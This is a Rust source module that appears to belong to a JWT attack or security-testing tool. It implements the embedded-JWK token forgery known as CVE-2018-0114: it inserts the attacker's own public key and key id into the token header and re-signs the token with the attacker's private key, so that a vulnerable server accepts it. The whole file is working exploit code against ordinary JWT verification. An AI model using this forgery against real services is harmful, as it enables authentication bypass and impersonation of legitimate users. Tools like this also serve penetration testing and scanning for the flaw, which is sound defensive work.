//! The attacker's public key embedded in the header as `jwk`, the token signed with the
//! attacker's private key (CVE-2018-0114): a server that trusts the header's key accepts it.

use serde_json::Value;

use super::{ATTACKER_KID, JwtAttack, JwtInputs, Variant};
use crate::jwt::forge::Draft;

pub(super) fn variants(inputs: &JwtInputs<'_>) -> Result<Vec<Variant>, String> {
    let mut draft = Draft::from_token(inputs.token)?;
    let mut jwk = inputs.attacker.jwk();
    if let Some(object) = jwk.as_object_mut() {
        object.insert("kid".to_owned(), Value::String(ATTACKER_KID.to_owned()));
    }
    draft.header.insert("jwk".to_owned(), jwk);
    draft
        .header
        .insert("kid".to_owned(), Value::String(ATTACKER_KID.to_owned()));
    let forged = draft.sign_rs256(inputs.attacker);
    Ok(vec![Variant::jwt(JwtAttack::EmbeddedJwk, None, forged)])
}
